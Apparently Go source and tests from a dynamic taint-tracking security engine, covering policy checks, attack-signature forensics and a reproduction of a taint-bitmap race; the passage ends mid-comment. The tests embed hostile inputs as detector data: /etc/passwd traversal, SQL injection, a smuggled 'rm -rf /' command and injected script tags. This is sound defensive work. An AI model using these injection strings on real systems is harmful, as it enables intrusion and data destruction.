// tb builds a taint vector with the given indices set.
func tb(n int, tainted ...int) []bool {
	out := make([]bool, n)
	for _, i := range tainted {
		out[i] = true
	}
	return out
}

func TestH1AbsolutePath(t *testing.T) {
	e := NewEngine(nil)
	if v := e.CheckOpen("/etc/passwd", tb(11, 0)); v == nil || v.Policy != "H1" {
		t.Errorf("tainted absolute path: %v", v)
	}
	if v := e.CheckOpen("/www/x", tb(6)); v != nil {
		t.Errorf("clean absolute path flagged: %v", v)
	}
	if v := e.CheckOpen("relative/path", tb(13, 0)); v != nil {
		t.Errorf("tainted relative path flagged as H1: %v", v)
	}
}

func TestH2Traversal(t *testing.T) {
	e := NewEngine(nil)
	// Tainted ".." escaping the root fires.
	path := "/www/pages/../../etc/passwd"
	marks := tb(len(path))
	for i := strings.Index(path, ".."); i < len(path); i++ {
		marks[i] = true
	}
	if v := e.checkTraversal(path, marks); v == nil || v.Policy != "H2" {
		t.Errorf("escaping traversal not caught: %v", v)
	}
	// ".." that stays inside the root is fine.
	inside := "/www/a/b/../c"
	if v := e.checkTraversal(inside, tb(len(inside), 9, 10)); v != nil {
		t.Errorf("inside-root traversal flagged: %v", v)
	}
	// Untainted ".." escaping the root is the program's own business.
	if v := e.checkTraversal(path, tb(len(path))); v != nil {
		t.Errorf("clean traversal flagged: %v", v)
	}
}

func TestH3SQLMeta(t *testing.T) {
	e := NewEngine(nil)
	q := "SELECT x FROM t WHERE id = '1' OR '1'='1'"
	i := strings.Index(q, "'1' OR")
	marks := tb(len(q))
	for j := i; j < len(q); j++ {
		marks[j] = true
	}
	if v := e.CheckSQL(q, marks); v == nil || v.Policy != "H3" {
		t.Errorf("tainted quote not caught: %v", v)
	}
	if v := e.CheckSQL(q, tb(len(q))); v != nil {
		t.Errorf("clean query flagged: %v", v)
	}
	// The "--" comment introducer.
	q2 := "SELECT x FROM t WHERE a=1 --drop"
	at := strings.Index(q2, "--")
	if v := e.CheckSQL(q2, tb(len(q2), at, at+1)); v == nil {
		t.Error("tainted comment introducer not caught")
	}
}

func TestH4ShellMeta(t *testing.T) {
	e := NewEngine(nil)
	cmd := "convert photo.png; rm -rf /"
	at := strings.IndexByte(cmd, ';')
	if v := e.CheckSystem(cmd, tb(len(cmd), at)); v == nil || v.Policy != "H4" {
		t.Errorf("tainted semicolon not caught: %v", v)
	}
	if v := e.CheckSystem(cmd, tb(len(cmd))); v != nil {
		t.Errorf("clean command flagged: %v", v)
	}
}

func TestH5ScriptTag(t *testing.T) {
	e := NewEngine(nil)
	page := "<html><SCRIPT>x()</SCRIPT></html>"
	at := strings.Index(strings.ToLower(page), "<script")
	if v := e.CheckHTML([]byte(page), tb(len(page), at)); v == nil || v.Policy != "H5" {
		t.Errorf("tainted script tag not caught: %v", v)
	}
	// A template's own script tag is fine.
	if v := e.CheckHTML([]byte(page), tb(len(page))); v != nil {
		t.Errorf("clean script tag flagged: %v", v)
	}
	// Second occurrence tainted, first clean.
	page2 := "<script>ok()</script><script>evil()</script>"
	second := strings.LastIndex(page2, "<script")
	if v := e.CheckHTML([]byte(page2), tb(len(page2), second+3)); v == nil {
		t.Error("tainted second script tag not caught")
	}
}

func TestClassifyTrap(t *testing.T) {
	e := NewEngine(nil)
	cases := []struct {
		kind machine.TrapKind
		want string
	}{
		{machine.TrapNaTLoadAddr, "L1"},
		{machine.TrapNaTStoreAddr, "L2"},
		{machine.TrapNaTStoreData, "L2"},
		{machine.TrapNaTBranch, "L3"},
		{machine.TrapNaTSyscall, "L3"},
	}
	for _, c := range cases {
		v := e.ClassifyTrap(&machine.Trap{Kind: c.kind})
		if v == nil || v.Policy != c.want {
			t.Errorf("%v classified as %v, want %s", c.kind, v, c.want)
		}
	}
	if v := e.ClassifyTrap(&machine.Trap{Kind: machine.TrapDivZero}); v != nil {
		t.Errorf("non-policy trap classified: %v", v)
	}
	if v := e.ClassifyTrap(nil); v != nil {
		t.Errorf("nil trap classified: %v", v)
	}
}

func TestDisabledPoliciesStaySilent(t *testing.T) {
	conf := DefaultConfig()
	conf.Enabled = map[string]bool{}
	e := NewEngine(conf)
	if v := e.CheckOpen("/etc/passwd", tb(11, 0)); v != nil {
		t.Errorf("disabled H1 fired: %v", v)
	}
	if v := e.ClassifyTrap(&machine.Trap{Kind: machine.TrapNaTLoadAddr}); v != nil {
		t.Errorf("disabled L1 fired: %v", v)
	}
}

func TestAlertsAccumulate(t *testing.T) {
	e := NewEngine(nil)
	e.CheckOpen("/etc/passwd", tb(11, 0))
	e.CheckSystem("x;y", tb(3, 1))
	if len(e.Alerts) != 2 {
		t.Errorf("alerts = %d, want 2", len(e.Alerts))
	}
	if !strings.Contains(e.Alerts[0].Error(), "H1") {
		t.Error("alert message lacks policy id")
	}
}

// --- Regression tests for the H1/H2 bugfix sweep and channel keying ---

// H1 used to test only byte 0 of the path: "/" + tainted "etc/passwd"
// slipped through, as did taint hidden behind "//" and "/./".
func TestH1MidStringTaint(t *testing.T) {
	e := NewEngine(nil)
	fire := []struct {
		path string
		mark func(tb []bool)
	}{
		// Byte 0 is the clean "/"; the attacker supplied the rest.
		{"/etc/passwd", func(tb []bool) {
			for i := 1; i < len(tb); i++ {
				tb[i] = true
			}
		}},
		// Doubled and dotted slashes move the first real segment away
		// from byte 1 without changing the named file.
		{"//etc/passwd", func(tb []bool) { tb[2] = true }},
		{"/./etc/passwd", func(tb []bool) { tb[3] = true }},
	}
	for _, c := range fire {
		tb := make([]bool, len(c.path))
		c.mark(tb)
		if v := e.CheckOpen(c.path, tb); v == nil || v.Policy != "H1" {
			t.Errorf("CheckOpen(%q) mid-string taint = %v, want H1", c.path, v)
		}
	}
	// Taint confined to a later segment does not name the absolute
	// target: serving "/www/pages/<user file>" is the program's intent.
	path := "/www/pages/home.txt"
	tb := make([]bool, len(path))
	for i := strings.LastIndex(path, "/") + 1; i < len(path); i++ {
		tb[i] = true
	}
	if v := e.CheckOpen(path, tb); v != nil {
		t.Errorf("filename-only taint flagged: %v", v)
	}
}

// H2 used to strip the document root as a plain string prefix: under
// root "/www", the sibling directory "/www../secret" lost its "/www"
// head, the leftover "../secret" looked like an escaping traversal, and
// a benign (if oddly named) path raised a false H2.
func TestH2RootComponentBoundary(t *testing.T) {
	e := NewEngine(nil) // DocRoot /www
	path := "/www../secret"
	tb := make([]bool, len(path))
	for i := 1; i < len(tb); i++ {
		tb[i] = true // fully attacker-named, but no ".." segment exists
	}
	if v := e.checkTraversal(path, tb); v != nil {
		t.Errorf("sibling dir of the root flagged as traversal: %v", v)
	}
	// The root itself and paths below it still get the root credit.
	inside := "/www/../etc/passwd"
	tb = make([]bool, len(inside))
	i := strings.Index(inside, "..")
	tb[i], tb[i+1] = true, true
	if v := e.checkTraversal(inside, tb); v == nil || v.Policy != "H2" {
		t.Errorf("tainted .. escaping /www = %v, want H2", v)
	}
}

func TestParseChannelKeys(t *testing.T) {
	conf, err := Parse("enable H2:net H3:net,file L2 L1:argv\n")
	if err != nil {
		t.Fatal(err)
	}
	want := map[string]taint.Channel{
		"H2": taint.ChanNetwork,
		"H3": taint.ChanNetwork | taint.ChanFile,
		"L1": taint.ChanArgs,
	}
	for id, ch := range want {
		if !conf.Enabled[id] {
			t.Errorf("%s not enabled", id)
		}
		if conf.Channels[id] != ch {
			t.Errorf("Channels[%s] = %v, want %v", id, conf.Channels[id], ch)
		}
	}
	// No key = all channels: L2 must be absent from the map (or zero),
	// and the engine must treat that as no restriction.
	if conf.Channels["L2"] != 0 {
		t.Errorf("unkeyed L2 got channel mask %v", conf.Channels["L2"])
	}
	if _, err := Parse("enable H2:carrier-pigeon\n"); err == nil {
		t.Error("accepted unknown channel")
	}
}

// A sink check keyed to one channel must ignore taint born elsewhere
// and keep firing on taint born there; bytes with unknown provenance
// stay tainted (conservative).
func TestChannelKeyedSink(t *testing.T) {
	conf := DefaultConfig()
	conf.Channels = map[string]taint.Channel{"H3": taint.ChanNetwork}
	e := NewEngine(conf)
	q := "SELECT '1'"
	tb := make([]bool, len(q))
	cb := make([]taint.Channel, len(q))
	i := strings.Index(q, "'")
	tb[i] = true

	cb[i] = taint.ChanFile
	if v := e.CheckSQL(q, tb, cb); v != nil {
		t.Errorf("file-born taint fired net-keyed H3: %v", v)
	}
	cb[i] = taint.ChanNetwork
	v := e.CheckSQL(q, tb, cb)
	if v == nil || v.Policy != "H3" {
		t.Fatalf("net-born taint missed by net-keyed H3: %v", v)
	}
	if v.Channels&taint.ChanNetwork == 0 {
		t.Errorf("violation channels = %v, want network", v.Channels)
	}
	// Unknown provenance: no channel byte recorded — must still fire.
	cb[i] = 0
	if v := e.CheckSQL(q, tb, cb); v == nil {
		t.Error("unknown-provenance taint suppressed")
	}
	// No channel slice at all (old call shape): must still fire.
	if v := e.CheckSQL(q, tb); v == nil {
		t.Error("missing channel slice suppressed the check")
	}
}

func TestClassifyTrapChannelKey(t *testing.T) {
	conf := DefaultConfig()
	conf.Channels = map[string]taint.Channel{"L2": taint.ChanNetwork}
	e := NewEngine(conf)
	trap := &machine.Trap{Kind: machine.TrapNaTStoreData}

	if v := e.ClassifyTrap(trap, taint.ChanFile); v != nil {
		t.Errorf("file-only taint fired net-keyed L2: %v", v)
	}
	if v := e.ClassifyTrap(trap, taint.ChanNetwork); v == nil || v.Policy != "L2" {
		t.Errorf("net taint missed by net-keyed L2: %v", v)
	}
	// Unknown live set (no tracking): conservative, still fires.
	if v := e.ClassifyTrap(trap); v == nil {
		t.Error("unknown live channels suppressed the trap policy")
	}
}

func TestConfigClone(t *testing.T) {
	conf := DefaultConfig()
	conf.Channels = map[string]taint.Channel{"H1": taint.ChanFile}
	cp := conf.Clone()
	cp.Enabled["H1"] = false
	cp.Channels["H1"] = taint.ChanNetwork
	cp.Sources["network"] = false
	cp.NoTrack["f"] = true
	if !conf.Enabled["H1"] || conf.Channels["H1"] != taint.ChanFile ||
		!conf.Sources["network"] || conf.NoTrack["f"] {
		t.Error("Clone shares state with the original")
	}
}
