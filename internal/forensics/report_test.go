package forensics

import (
	"strings"
	"testing"

	"shift/internal/policy"
	"shift/internal/trace"
)

func reportViolation() *policy.Violation {
	data := []byte("GET ../../secret")
	taint := make([]bool, len(data))
	for i := 4; i < len(data); i++ {
		taint[i] = true
	}
	return &policy.Violation{
		Policy:    "H2",
		SinkLabel: "open",
		SinkData:  data,
		SinkTaint: taint,
	}
}

func TestBuildReportBundlesTrail(t *testing.T) {
	tr := trace.New(4)
	for i := 0; i < 10; i++ {
		tr.Emit(trace.Event{Cycle: uint64(i), Kind: trace.KindTagWrite})
	}
	tr.Emit(trace.Event{Cycle: 10, Kind: trace.KindViolation, Name: "H2"})

	ch := Channels{Network: []byte("GET ../../secret HTTP/1.0")}
	rep := BuildReport(reportViolation(), ch, tr, 3)
	if rep.Signature == nil {
		t.Fatal("no signature extracted")
	}
	if len(rep.Provenance) == 0 || rep.Provenance[0].Channel != "network" {
		t.Errorf("provenance = %+v", rep.Provenance)
	}
	if len(rep.Trail) != 3 {
		t.Fatalf("trail has %d events, want the requested 3", len(rep.Trail))
	}
	if rep.Trail[2].Kind != trace.KindViolation {
		t.Errorf("trail does not end at the violation: %+v", rep.Trail)
	}
	if rep.Dropped != 7 {
		t.Errorf("Dropped = %d, want 7 (11 emitted, ring of 4)", rep.Dropped)
	}

	text := rep.String()
	for _, want := range []string{"violation: ", "signature: H2@open", "provenance: ", "trace tail (3 events, 7 older dropped)", "name=H2"} {
		if !strings.Contains(text, want) {
			t.Errorf("report missing %q:\n%s", want, text)
		}
	}
}

// Without a recorder the report still documents the static side.
func TestBuildReportWithoutTracer(t *testing.T) {
	rep := BuildReport(reportViolation(), Channels{}, nil, 0)
	if rep.Signature == nil {
		t.Fatal("signature lost without a tracer")
	}
	if len(rep.Trail) != 0 || rep.Dropped != 0 {
		t.Errorf("nil tracer produced a trail: %+v", rep)
	}
	if !strings.Contains(rep.String(), "signature:") {
		t.Error("static-only report renders nothing")
	}
}

// Low-level violations carry no sink bytes; the report degrades to the
// trail alone.
func TestBuildReportLowLevelViolation(t *testing.T) {
	tr := trace.New(8)
	tr.Emit(trace.Event{Kind: trace.KindViolation, Name: "L1"})
	rep := BuildReport(&policy.Violation{Policy: "L1"}, Channels{}, tr, 0)
	if rep.Signature != nil {
		t.Error("signature fabricated from an empty sink")
	}
	if len(rep.Trail) != 1 {
		t.Errorf("trail has %d events, want 1", len(rep.Trail))
	}
}
