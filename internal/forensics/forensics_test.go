package forensics_test

import (
	"strings"
	"testing"

	"shift/internal/attacks"
	"shift/internal/forensics"
	"shift/internal/policy"
	"shift/internal/shift"
	"shift/internal/taint"
)

// runExploit runs one attack's exploit under SHIFT and returns the alert.
func runExploit(t *testing.T, a *attacks.Attack) (*policy.Violation, *shift.World) {
	t.Helper()
	conf := a.Config()
	conf.Granularity = taint.Byte
	world := a.Exploit()
	res, err := shift.BuildAndRun([]shift.Source{{Name: a.Program, Text: a.Source}},
		world, shift.Options{Instrument: true, Policy: conf})
	if err != nil {
		t.Fatal(err)
	}
	if res.Alert == nil {
		t.Fatalf("%s: exploit not detected", a.Program)
	}
	return res.Alert.Violation, world
}

func TestSignatureFromQwikiwikiTraversal(t *testing.T) {
	v, world := runExploit(t, attacks.Qwikiwiki)
	sig := forensics.FromViolation(v)
	if sig == nil {
		t.Fatal("no signature extracted")
	}
	if sig.Policy != "H2" || sig.Sink != "open" {
		t.Errorf("signature header: %s@%s", sig.Policy, sig.Sink)
	}
	// The attacker-controlled run must contain the traversal pattern.
	joined := ""
	for _, tok := range sig.Tokens {
		joined += string(tok.Text)
	}
	if !strings.Contains(joined, "../..") {
		t.Errorf("signature misses the traversal: %s", sig)
	}
	// The signature matches the wire bytes that caused it...
	if !sig.Match(world.NetIn) {
		t.Errorf("signature does not match its own exploit input: %s", sig)
	}
	// ...and not a benign request.
	if sig.Match([]byte("home")) {
		t.Error("signature matches benign traffic")
	}
}

func TestSignatureFromSQLInjection(t *testing.T) {
	v, world := runExploit(t, attacks.PhpMyFAQ)
	sig := forensics.FromViolation(v)
	if sig == nil {
		t.Fatal("no signature extracted")
	}
	if !sig.Match(world.NetIn) {
		t.Errorf("signature %s does not match the injection payload %q", sig, world.NetIn)
	}
	if sig.Match([]byte("20060915")) {
		t.Error("signature matches a benign id")
	}
	// Provenance: the tokens came from the network channel.
	prov := forensics.Locate(sig, forensics.Channels{Network: world.NetIn})
	if len(prov) == 0 {
		t.Fatal("no provenance found")
	}
	for _, p := range prov {
		if p.Channel != "network" {
			t.Errorf("token %q attributed to %s", p.Token.Text, p.Channel)
		}
	}
}

func TestSignatureFromXSS(t *testing.T) {
	v, world := runExploit(t, attacks.Scry)
	sig := forensics.FromViolation(v)
	if sig == nil {
		t.Fatal("no signature extracted")
	}
	if !strings.Contains(strings.ToLower(sig.String()), "script") {
		t.Errorf("XSS signature misses the script tag: %s", sig)
	}
	if !sig.Match(world.NetIn) {
		t.Error("signature does not match the exploit request")
	}
}

func TestSignatureFromFileChannel(t *testing.T) {
	v, world := runExploit(t, attacks.GnuTar)
	sig := forensics.FromViolation(v)
	if sig == nil {
		t.Fatal("no signature extracted")
	}
	prov := forensics.Locate(sig, forensics.Channels{Files: world.Files})
	if len(prov) == 0 {
		t.Fatal("no provenance into the archive file")
	}
	if !strings.HasPrefix(prov[0].Channel, "file:") {
		t.Errorf("channel = %s", prov[0].Channel)
	}
}

func TestLowLevelViolationsHaveNoSinkContext(t *testing.T) {
	v, _ := runExploit(t, attacks.Bftpd) // L2: faults inside the pipeline
	if sig := forensics.FromViolation(v); sig != nil {
		t.Errorf("unexpected signature for a register-level fault: %s", sig)
	}
	if forensics.FromViolation(nil) != nil {
		t.Error("nil violation produced a signature")
	}
}

func TestTokenExtractionRules(t *testing.T) {
	mk := func(data string, taintedRanges ...[2]int) *policy.Violation {
		tb := make([]bool, len(data))
		for _, r := range taintedRanges {
			for i := r[0]; i < r[1]; i++ {
				tb[i] = true
			}
		}
		return &policy.Violation{Policy: "H3", SinkLabel: "sql_exec",
			SinkData: []byte(data), SinkTaint: tb}
	}

	// Runs shorter than minTokenLen are dropped.
	if sig := forensics.FromViolation(mk("SELECT 'x'", [2]int{8, 9})); sig != nil {
		t.Errorf("one-byte run produced a signature: %s", sig)
	}
	// Runs separated by small gaps merge.
	sig := forensics.FromViolation(mk("ab cd efgh", [2]int{0, 2}, [2]int{3, 5}, [2]int{6, 10}))
	if sig == nil || len(sig.Tokens) != 1 {
		t.Fatalf("gap merge failed: %v", sig)
	}
	if string(sig.Tokens[0].Text) != "ab cd efgh" {
		t.Errorf("merged token = %q", sig.Tokens[0].Text)
	}
	// Distant runs stay separate tokens, and Match requires order.
	sig = forensics.FromViolation(mk("aaaa......bbbb", [2]int{0, 4}, [2]int{10, 14}))
	if sig == nil || len(sig.Tokens) != 2 {
		t.Fatalf("distant runs merged: %v", sig)
	}
	if !sig.Match([]byte("xxaaaaxxxxxxbbbbxx")) {
		t.Error("ordered match failed")
	}
	if sig.Match([]byte("bbbb then aaaa")) {
		t.Error("out-of-order input matched")
	}
}
