// Package forensics turns a policy violation into an intrusion-prevention
// signature — the feedback loop the paper's introduction highlights as a
// key benefit of DIFT ("the results of such reasoning could be used as
// feedback to generate accurate intrusion prevention signatures").
//
// The raw material is the sink context a high-level violation carries:
// the exact bytes that reached the dangerous operation plus their
// per-byte taint. The attacker-controlled content is the union of the
// maximal tainted runs; a signature is those runs, and Locate maps them
// back to the input channels they came from.
package forensics

import (
	"bytes"
	"fmt"
	"strings"

	"shift/internal/policy"
)

// Token is one maximal attacker-controlled run in the sink data.
type Token struct {
	Offset int    // position in the sink data
	Text   []byte // the tainted bytes
}

// Signature describes an attack in terms of its attacker-controlled
// content at a named sink.
type Signature struct {
	Policy string
	Sink   string
	Tokens []Token
}

// minTokenLen drops sub-token noise: a single tainted byte (for example
// one quote character) matches too much benign traffic to block on.
const minTokenLen = 3

// gapMerge joins tainted runs separated by at most this many clean bytes
// (word-granularity tags and sanitised separators fragment runs).
const gapMerge = 2

// FromViolation extracts the signature of a violation, or nil when the
// violation carries no sink context (the low-level policies fault inside
// the processor, where only the register is known).
func FromViolation(v *policy.Violation) *Signature {
	if v == nil || len(v.SinkData) == 0 || len(v.SinkTaint) == 0 {
		return nil
	}
	sig := &Signature{Policy: v.Policy, Sink: v.SinkLabel}
	n := len(v.SinkData)
	if len(v.SinkTaint) < n {
		n = len(v.SinkTaint)
	}
	i := 0
	for i < n {
		if !v.SinkTaint[i] {
			i++
			continue
		}
		j := i
		gap := 0
		end := i
		for j < n {
			if v.SinkTaint[j] {
				gap = 0
				end = j + 1
			} else {
				gap++
				if gap > gapMerge {
					break
				}
			}
			j++
		}
		if end-i >= minTokenLen {
			sig.Tokens = append(sig.Tokens, Token{
				Offset: i,
				Text:   append([]byte(nil), v.SinkData[i:end]...),
			})
		}
		i = end + 1
	}
	if len(sig.Tokens) == 0 {
		return nil
	}
	return sig
}

// String renders the signature in a grep-able single line.
func (s *Signature) String() string {
	var b strings.Builder
	fmt.Fprintf(&b, "%s@%s:", s.Policy, s.Sink)
	for i, tok := range s.Tokens {
		if i > 0 {
			b.WriteString(" ...")
		}
		fmt.Fprintf(&b, " %q", tok.Text)
	}
	return b.String()
}

// Match reports whether the candidate input contains every token of the
// signature in order — the filter an inline prevention device would
// apply to traffic before it reaches the protected program.
func (s *Signature) Match(input []byte) bool {
	rest := input
	for _, tok := range s.Tokens {
		i := bytes.Index(rest, tok.Text)
		if i < 0 {
			return false
		}
		rest = rest[i+len(tok.Text):]
	}
	return true
}

// Provenance names an input channel region a token came from.
type Provenance struct {
	Token   Token
	Channel string // "network", "file:<name>", "stdin", "args"
	Offset  int    // offset of the match within the channel
}

// Channels describes the program's inputs for Locate.
type Channels struct {
	Network []byte
	Stdin   []byte
	Args    []string
	Files   map[string][]byte
}

// Locate maps each token back to the input channels containing it.
// Content-based matching is how signature generators relate sink bytes to
// wire bytes without per-byte origin hardware.
func Locate(sig *Signature, ch Channels) []Provenance {
	var out []Provenance
	try := func(tok Token, name string, data []byte) bool {
		if i := bytes.Index(data, tok.Text); i >= 0 {
			out = append(out, Provenance{Token: tok, Channel: name, Offset: i})
			return true
		}
		return false
	}
	for _, tok := range sig.Tokens {
		if try(tok, "network", ch.Network) {
			continue
		}
		if try(tok, "stdin", ch.Stdin) {
			continue
		}
		found := false
		for name, data := range ch.Files {
			if try(tok, "file:"+name, data) {
				found = true
				break
			}
		}
		if found {
			continue
		}
		for i, a := range ch.Args {
			if try(tok, fmt.Sprintf("args[%d]", i), []byte(a)) {
				break
			}
		}
	}
	return out
}
