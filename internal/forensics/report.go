package forensics

import (
	"fmt"
	"strings"

	"shift/internal/policy"
	"shift/internal/trace"
)

// Report is a violation bundle for incident response: the signature and
// provenance chain the static analysis extracts, plus the flight
// recorder's tail — the last events before the stop, which show *how*
// the tainted input travelled (birth at the source syscall, tag-bitmap
// writes, spec-load defers, the failing policy check) rather than only
// *what* reached the sink.
type Report struct {
	Violation  *policy.Violation
	Signature  *Signature   // nil for low-level (in-processor) violations
	Provenance []Provenance // tokens mapped back to input channels
	Trail      []trace.Event
	Dropped    uint64 // events the recorder overwrote before the stop
}

// DefaultTrail is the trace-tail length BuildReport keeps when n <= 0.
const DefaultTrail = 256

// BuildReport assembles the bundle: signature from the violation, token
// provenance from the channels, and the most recent n events from the
// recorder (tr may be nil — the report then documents only the static
// side).
func BuildReport(v *policy.Violation, ch Channels, tr *trace.Tracer, n int) *Report {
	if n <= 0 {
		n = DefaultTrail
	}
	r := &Report{Violation: v, Signature: FromViolation(v)}
	if r.Signature != nil {
		r.Provenance = Locate(r.Signature, ch)
	}
	r.Trail = tr.Tail(n)
	r.Dropped = tr.Dropped()
	return r
}

// String renders the report for an incident log.
func (r *Report) String() string {
	var b strings.Builder
	if r.Violation != nil {
		fmt.Fprintf(&b, "violation: %s\n", r.Violation.Error())
	}
	if r.Signature != nil {
		fmt.Fprintf(&b, "signature: %s\n", r.Signature)
	}
	for _, p := range r.Provenance {
		fmt.Fprintf(&b, "provenance: %q from %s+%d\n", p.Token.Text, p.Channel, p.Offset)
	}
	if len(r.Trail) > 0 {
		fmt.Fprintf(&b, "trace tail (%d events, %d older dropped):\n", len(r.Trail), r.Dropped)
		for _, ev := range r.Trail {
			fmt.Fprintf(&b, "  cycle=%d tid=%d pc=%d %s", ev.Cycle, ev.TID, ev.PC, ev.Kind)
			if ev.Name != "" {
				fmt.Fprintf(&b, " name=%s", ev.Name)
			}
			if ev.Addr != 0 {
				fmt.Fprintf(&b, " addr=%#x", ev.Addr)
			}
			if ev.N != 0 {
				fmt.Fprintf(&b, " n=%d", ev.N)
			}
			if ev.Reg != 0 {
				fmt.Fprintf(&b, " reg=r%d", ev.Reg)
			}
			b.WriteByte('\n')
		}
	}
	return b.String()
}
