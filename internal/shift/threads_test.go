package shift

import (
	"fmt"
	"testing"

	"shift/internal/policy"
)

// Multi-threading is the paper's declared future work (§4.4: "our current
// implementation does not support multi-threaded applications since
// accessing the bitmap is not serialized"). These tests exercise the
// threaded guest support and reproduce — deterministically — the very
// bitmap race the paper worried about.

func TestSpawnJoinBasic(t *testing.T) {
	src := `
int results[4];

int worker(int id) {
	int i;
	int acc = 0;
	for (i = 0; i <= id * 100; i++) acc += i;
	results[id] = acc;
	return 0;
}

void main() {
	int t1 = spawn("worker", 1);
	int t2 = spawn("worker", 2);
	int t3 = spawn("worker", 3);
	if (t1 < 0 || t2 < 0 || t3 < 0) exit(9);
	join(t1);
	join(t2);
	join(t3);
	if (results[1] != 5050) exit(1);
	if (results[2] != 20100) exit(2);
	if (results[3] != 45150) exit(3);
	exit(0);
}
`
	for _, instrument := range []bool{false, true} {
		res, err := BuildAndRun([]Source{{Name: "t", Text: src}}, NewWorld(),
			Options{Instrument: instrument})
		if err != nil {
			t.Fatalf("instrument=%v: %v", instrument, err)
		}
		if res.Trap != nil || res.Alert != nil {
			t.Fatalf("instrument=%v: trap=%v alert=%v", instrument, res.Trap, res.Alert)
		}
		if res.ExitStatus != 0 {
			t.Fatalf("instrument=%v: exit=%d", instrument, res.ExitStatus)
		}
	}
}

func TestSpawnErrors(t *testing.T) {
	src := `
void main() {
	if (spawn("no_such_function", 0) != -1) exit(1);
	if (join(99) != -1) exit(2);
	if (join(0) != -1) exit(3);   // cannot join self
	exit(0);
}
`
	res, err := BuildAndRun([]Source{{Name: "t", Text: src}}, NewWorld(), Options{})
	if err != nil {
		t.Fatal(err)
	}
	if res.ExitStatus != 0 {
		t.Fatalf("exit=%d trap=%v", res.ExitStatus, res.Trap)
	}
}

func TestJoinDeadlockDetected(t *testing.T) {
	src := `
int sleeper(int x) {
	join(0);     // joins main, which joins us: deadlock
	return 0;
}
void main() {
	int tid = spawn("sleeper", 0);
	join(tid);
	exit(0);
}
`
	res, err := BuildAndRun([]Source{{Name: "t", Text: src}}, NewWorld(), Options{})
	if err != nil {
		t.Fatal(err)
	}
	if res.Trap == nil {
		t.Fatal("deadlock not reported")
	}
}

func TestYieldInterleaves(t *testing.T) {
	// Two threads appending to a log; with yields, their writes
	// interleave rather than run to completion one after the other.
	src := `
char log[64];
int pos;

int writer(int ch) {
	int i;
	for (i = 0; i < 8; i++) {
		log[pos] = ch;
		pos++;
		yield();
	}
	return 0;
}

void main() {
	int a = spawn("writer", 'a');
	int b = spawn("writer", 'b');
	join(a);
	join(b);
	log[pos] = 0;
	print_str(log);
	exit(0);
}
`
	res, err := BuildAndRun([]Source{{Name: "t", Text: src}}, NewWorld(), Options{})
	if err != nil {
		t.Fatal(err)
	}
	if res.Trap != nil {
		t.Fatal(res.Trap)
	}
	out := string(res.World.Stdout)
	if len(out) != 16 {
		t.Fatalf("log %q", out)
	}
	// Interleaved: not all a's first.
	if out == "aaaaaaaabbbbbbbb" {
		t.Errorf("threads did not interleave: %q", out)
	}
}

// TestTaintFlowsAcrossThreads: taint written to shared memory by one
// thread is observed by another — the bitmap is shared state.
func TestTaintFlowsAcrossThreads(t *testing.T) {
	src := `
char shared[64];
int ready;

int producer(int x) {
	char buf[32];
	recv(buf, 32);              // tainted network data
	strcpy(shared, buf);
	ready = 1;
	return 0;
}

void main() {
	int tid = spawn("producer", 0);
	join(tid);
	exit(is_tainted(shared, 8) ? 0 : 1);
}
`
	world := NewWorld()
	world.NetIn = []byte("secrets!")
	res, err := BuildAndRun([]Source{{Name: "t", Text: src}}, world,
		Options{Instrument: true})
	if err != nil {
		t.Fatal(err)
	}
	if res.Trap != nil || res.Alert != nil {
		t.Fatalf("trap=%v alert=%v", res.Trap, res.Alert)
	}
	if res.ExitStatus != 0 {
		t.Error("taint did not cross the thread boundary through the bitmap")
	}
}

// raceProgram: the tainter stores one tainted byte to shared[0] exactly once, after a
// tunable delay; the churner continuously stores alternating tainted and
// clean bytes to shared[1] — every such store is a read-modify-write of
// the *same tag byte* at byte granularity. If the churner is preempted
// between its tag read and tag write exactly when the tainter's single
// update lands, the churner publishes a stale tag byte and the taint on
// shared[0] is lost forever: a false negative caused purely by the
// unserialized bitmap (§4.4). There is no later store to heal it.
const raceProgram = `
char shared[8];
char tbuf[8];

int tainter(int delay) {
	int i;
	int v = 0;
	for (i = 0; i < delay; i++) v += i;
	shared[0] = tbuf[0];          // the one and only taint store
	return v;
}

int churner(int n) {
	int i;
	for (i = 0; i < n; i++) {
		shared[1] = (i & 1) ? tbuf[1] : 'x';
	}
	return 0;
}

void main() {
	char dbuf[16];
	recv(tbuf, 8);
	getarg(0, dbuf, 16);
	int delay = atoi(dbuf);
	int b = spawn("churner", 300);
	int a = spawn("tainter", delay);
	join(a);
	join(b);
	exit(is_tainted(shared, 1) ? 1 : 0);   // 1 = taint intact, 0 = lost
}
`

// taintSurvives runs the race at one (quantum, delay) point and reports
// whether shared[0]'s taint survived the churn. UnsafePreempt is on:
// reproducing the §4.4 hazard needs slices that can end inside the tag
// read-modify-write, which the default tag-coherent scheduling forbids.
func taintSurvives(t *testing.T, quantum uint64, delay int) bool {
	t.Helper()
	world := NewWorld()
	world.NetIn = []byte{0xAA, 0xBB}
	world.Args = []string{fmt.Sprint(delay)}
	if world.Engine != nil {
		t.Fatal("unexpected engine")
	}
	conf := policy.DefaultConfig()
	conf.Sources = map[string]bool{"network": true} // args stay clean
	res, err := BuildAndRun([]Source{{Name: "t", Text: raceProgram}}, world,
		Options{Instrument: true, Policy: conf, Quantum: quantum, UnsafePreempt: true})
	if err != nil {
		t.Fatal(err)
	}
	if res.Trap != nil || res.Alert != nil {
		t.Fatalf("quantum %d delay %d: trap=%v alert=%v", quantum, delay, res.Trap, res.Alert)
	}
	return res.ExitStatus == 1
}

// TestBitmapRaceAtByteGranularity demonstrates §4.4's concern
// deterministically: somewhere in a small grid of preemption quanta and
// arrival delays, the churner's torn tag read-modify-write swallows the
// tainter's update.
func TestBitmapRaceAtByteGranularity(t *testing.T) {
	for q := uint64(5); q <= 40; q += 5 {
		for delay := 0; delay <= 60; delay += 3 {
			if !taintSurvives(t, q, delay) {
				t.Logf("lost update reproduced at quantum=%d delay=%d", q, delay)
				return
			}
		}
	}
	t.Error("no (quantum, delay) tore the unserialized bitmap update; the §4.4 hazard did not reproduce")
}

// TestNoRaceWithCoarseSlices: with slices long enough that no tag
// read-modify-write ever splits, the taint always survives — the loss
// above is purely an atomicity artefact, not a logic bug.
func TestNoRaceWithCoarseSlices(t *testing.T) {
	for delay := 0; delay <= 60; delay += 10 {
		if !taintSurvives(t, 1_000_000, delay) {
			t.Errorf("taint lost without preemption inside the RMW (delay %d)", delay)
		}
	}
}

// TestCoherentSchedulingClosesTheRace: under the default scheduling a
// quantum expiry stretches the slice to the next original-program
// instruction, so the churner's tag read-modify-write can never split
// around the tainter's update — the whole grid that loses taint under
